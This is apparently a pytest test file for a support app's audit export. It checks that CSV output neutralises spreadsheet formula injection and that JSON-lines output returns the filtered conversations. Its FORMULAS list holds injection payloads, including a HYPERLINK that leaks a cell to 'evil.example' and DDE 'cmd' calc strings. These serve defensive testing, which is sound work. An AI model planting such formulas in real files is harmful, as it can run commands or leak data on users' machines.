"""Export of the filtered set: JSON lines with the trace, CSV safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncSession

from app.audit.exporting import neutralise
from app.models.enums import StaffRole
from tests.app.audit_workspace.helpers import chat
from tests.factories import auth, make_customer, make_staff

# What a spreadsheet would run: formulas, DDE, and the tab / carriage-return prefixes some of them skip.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_get_a_leading_apostrophe(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["hello", "", "'=already quoted", " =1+1", "1-2", 42, -5, None, True])
def test_other_cells_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


async def test_csv_export_neutralises_customer_and_staff_text(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    customer = await make_customer(session, name="=cmd|' /C calc'!A0")
    agent = await make_staff(session, role=StaffRole.agent, name="@Agent")
    auditor = await make_staff(session, role=StaffRole.auditor)
    cid = await chat(client, auth(customer), *FORMULAS[:4], "I'd like to speak to a person please")
    queue = (await client.get("/v1/handoffs?status=open", headers=auth(agent))).json()["items"]
    handoff_id = next(h["id"] for h in queue if h["conversation_id"] == cid)
    await client.post(f"/v1/handoffs/{handoff_id}/claim", headers=auth(agent))
    for reply in FORMULAS[4:]:
        r = await client.post(
            f"/v1/handoffs/{handoff_id}/messages", json={"content": reply}, headers=auth(agent)
        )
        assert r.status_code == 201, r.text

    r = await client.get(
        "/v1/audit/conversations/export",
        params={"format": "csv", "customer_id": str(customer.id)},
        headers=auth(auditor),
    )
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(r.text, newline="")))
    header, data = rows[0], rows[1:]
    assert header[:3] == ["conversation_id", "conversation_created_at", "customer_id"]
    for row in data:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (header[row.index(cell)], cell)
    by = [dict(zip(header, row, strict=True)) for row in data]
    contents = [r["content"] for r in by]
    for formula in FORMULAS:
        assert "'" + formula in contents, formula
    assert {r["customer_name"] for r in by} == {"'=cmd|' /C calc'!A0"}
    staff_rows = [r for r in by if r["role"] == "staff" and r["content"]]
    assert {r["author"] for r in staff_rows} == {"'@Agent"}
    assert {r["conversation_id"] for r in by} == {cid}
    customer_rows = [r for r in by if r["role"] == "customer"]
    assert [int(r["turn"]) for r in customer_rows] == [1, 2, 3, 4, 5]

    # The whole-log export goes through the same writer.
    r = await client.get("/v1/audit/export", params={"format": "csv"}, headers=auth(auditor))
    for row in csv.reader(io.StringIO(r.text, newline="")):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row)


async def test_jsonl_export_is_the_filtered_set_with_its_trace(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    ada = await make_customer(session, name="Ada")
    bob = await make_customer(session, name="Bob")
    auditor = await make_staff(session, role=StaffRole.auditor)
    first = await chat(client, auth(ada), "where is my new card?")
    second = await chat(client, auth(ada), "I want to make a complaint, this is unacceptable")
    await chat(client, auth(bob), "where is my new card?")

    r = await client.get("/v1/audit/conversations/export", params={"customer": "ada"}, headers=auth(auditor))
    assert r.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in r.text.splitlines()]
    assert [line["conversation"]["id"] for line in lines] == [first, second]  # oldest first
    assert lines[0]["turns"][0]["triage"][0]["intent"] == "card_arrival"
    assert lines[1]["conversation"]["flags"] == ["complaint"]
    assert all(line["events"] and line["messages"] for line in lines)

    r = await client.get(
        "/v1/audit/conversations/export",
        params={"flag": "complaint", "format": "jsonl"},
        headers=auth(auditor),
    )
    assert [json.loads(line)["conversation"]["id"] for line in r.text.splitlines()] == [second]
    r = await client.get("/v1/audit/conversations/export", params={"format": "xlsx"}, headers=auth(auditor))
    assert r.status_code == 422
